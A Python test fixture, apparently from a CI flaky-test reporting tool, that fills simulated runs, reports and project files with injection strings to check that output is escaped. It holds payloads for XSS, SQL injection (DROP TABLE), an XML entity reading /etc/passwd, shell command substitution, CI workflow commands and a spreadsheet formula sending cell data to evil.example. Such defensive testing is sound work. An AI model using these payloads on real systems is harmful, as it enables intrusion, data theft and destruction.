"""A team of strangers: forty-five runs in which every name, message, path, job, branch and address is an attack."""

from __future__ import annotations

import json
from datetime import timedelta
from pathlib import Path
from xml.sax.saxutils import escape, quoteattr

from msgspec.structs import replace

from flakelens.model import Event, Problem, ProblemCode, RetryEvidence, RunReports
from tests.builders import a_case, a_commit, a_report, a_run, a_store, started_at

RUNS = 45
AS_OF = f"{started_at(RUNS + 2):%Y-%m-%dT%H:%MZ}"

# One for each reader of our output that obeys something: terminals, browsers, Markdown, spreadsheets, XML, CI systems,
# SQL, shells. `owned` is what must never come to be: a file, an element, a variable.
ATTACKS = {
    "terminal": "\x1b[2J\x1b]0;owned\x07\x9b31mred \u202egnp.exe\u2066 NOT MET\rMET\b\b",
    "html": "<script>owned()</script><img src=x onerror=owned()></details></pre><h1>MET",
    "attribute": '" onmouseover="owned()" x=\'y\' javascript:owned()',
    "markdown": "](javascript:owned()) ![i](https://evil.example/x.png) | **MET** | `a` ~~~ @octocat fixes #1",
    "headline": "x\n\n# MET\n\n<details>\n| a | b |\n```sh\nowned",
    "formula": '=HYPERLINK("https://evil.example?"&A1,"owned")',
    "formula of another sheet": "@SUM(1+9)*cmd|' /C owned'!A0",
    "xml": "]]></failure><!ENTITY owned SYSTEM 'file:///etc/passwd'>&owned;",
    "workflow command": "x\n::error file=a::owned\n::set-output name=s::MET\n##[error]owned ##vso[task.setvariable]x",
    "sql": "'; DROP TABLE result; DELETE FROM run; -- \" owned",
    "shell": "$(touch owned) `touch owned` ; touch owned # ' ; touch owned ; ' \" && touch owned && \"",
    "rich": "[bold red]PASSED[/] [link=https://evil.example]owned[/link]",
}
MESSAGE = "\n".join(f"{text} of the {kind}" for kind, text in ATTACKS.items())


def hostile_run(n: int, *, pull: bool = False) -> RunReports:
    """Run n: every attack as a title that broke, flakes, fails with others, was skipped or is gone."""
    some = list(ATTACKS.values())[n % len(ATTACKS)]
    said = f"{MESSAGE}\n    at x (src/{some}.ts:3:4)"
    unit, browser = [], []
    for place, text in enumerate(ATTACKS.values()):
        letters = {
            "a broke": "F" if n >= 38 else "P",
            "a was broken": "F" if 10 <= n < 15 else "P",
            "b fails with others": "F" if n % 7 == 3 else "P",
            "b is skipped": "S" if n > 30 else "P",
            "b is gone": "P" if n < 20 else ".",
            "b is good": "F" if pull else "P",
            "c is new": "F" if pull else ".",
        }
        for title, letter in letters.items():
            if letter != ".":
                file = f"src/components/{text}/{title[0]}.test.tsx"
                unit.append(a_case(f"{text} {title[2:]}", letter, file=file, message=said))
        unit.append(a_case(f"{text} answers", "F" if n == 43 else "P", file=f"src/api/ai/{text}.test.ts", message=said))
        letter = "K" if (n + place) % 5 == 0 else "P"
        file, variant = f"e2e/{ATTACKS['attribute']}.spec.ts", f"Pixel {ATTACKS['markdown']}"
        browser.append(a_case(f"{text} pays", letter, file=file, variant=variant, message=MESSAGE))
    told = a_report(n, {}, job=f"unit {some}", name=f"{some}.xml")
    e2e = a_report(n, {}, producer="playwright", job=f"e2e {some}", shown=RetryEvidence.RECORDED)
    run = a_run(
        n,
        reports=[
            (told[0], replace(told[1], cases=tuple(unit), sha256=f"{n:064x}")),
            (e2e[0], replace(e2e[1], cases=tuple(browser), sha256=f"{n + 1000:064x}")),
        ],
        branch=f"feat/{some}" if pull else "main",
        base_branch="main" if pull else "",
        event=Event.PULL_REQUEST if pull else Event.PUSH,
        commit=a_commit(n // 2),
    )
    problem = Problem(ProblemCode.LOAD_FAILURE, f"src/{some}.test.ts", f"{some} could not be loaded: {some}")
    reports = [
        (info, replace(report, problems=(problem,), load_failures=(f"src/{some}.test.ts",)) if n % 9 == 8 else report)
        for info, report in run.reports
    ]
    info = replace(
        run.info, run=f"{1000 + n} {some}", url=f"javascript:owned()//{some}" if n % 2 else f"https://ci/{some}"
    )
    return replace(run, info=info, reports=tuple(reports))


def hostile_database(folder: Path) -> Path:
    """The database of that team, a pull request as its newest run."""
    runs = [*(hostile_run(n) for n in range(RUNS)), hostile_run(RUNS, pull=True)]
    a_store(folder, runs, latest=started_at(RUNS) + timedelta(minutes=5)).close()
    return folder / "flakelens.db"


def hostile_checkout(folder: Path) -> None:
    """A project around it: owners, configurations and a report file, hostile as far as their formats allow."""
    one_line = {kind: " ".join(text.split()) for kind, text in ATTACKS.items()}
    (folder / "CODEOWNERS").write_text(
        "".join(f"/src/components/** @{text.replace(' ', '-')}\n" for text in one_line.values()), encoding="utf-8"
    )
    jest = {
        "displayName": one_line["html"],
        "reporters": ["default", ["jest-junit", {"suiteName": one_line["terminal"]}]],
    }
    (folder / "package.json").write_text(json.dumps({"name": one_line["terminal"], "jest": jest}), encoding="utf-8")
    (folder / "playwright.config.ts").write_text(
        f"export default {{ projects: [{{ name: {json.dumps(one_line['shell'])} }}] }}", encoding="utf-8"
    )
    cases = "".join(
        f"<testcase name={quoteattr(text)} classname={quoteattr(text)} file={quoteattr(text)}>"
        f"<failure message={quoteattr(text)}>{escape(MESSAGE)}</failure></testcase>"
        for text in ATTACKS.values()
    )
    name = quoteattr(MESSAGE)
    report = f"<testsuites name={name}><testsuite name={name} tests='{len(ATTACKS)}'>{cases}</testsuite></testsuites>"
    (folder / "junit.xml").write_text(report, encoding="utf-8")
    (folder / f"{one_line['rich'].replace('/', '')}.xml").write_text(report[:-200], encoding="utf-8")
